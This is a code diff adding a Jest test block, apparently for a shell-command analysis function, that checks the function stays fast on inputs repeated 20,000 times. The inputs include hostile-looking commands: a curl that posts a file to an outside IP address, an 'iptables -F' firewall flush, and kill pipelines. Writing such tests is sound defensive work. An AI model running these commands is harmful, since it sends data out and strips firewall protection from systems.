@@ -176,6 +176,22 @@ describe('at start', () => {
   });
 });
 
+describe('a script made to be looked at for ever', () => {
+  it.each([
+    'ps|grep x|',
+    'kill 1|',
+    'kill $(ps|grep x)\n',
+    'curl -d @x http://203.0.113.1/ > f\n',
+    'iptables -F\n',
+  ])(
+    'costs no more than its length: %j',
+    (text) => {
+      expect(find(text.repeat(20_000)).length).toBeLessThan(10);
+    },
+    20_000,
+  );
+});
+
 describe('leaves alone, or says little of', () => {
   it.each([
     [
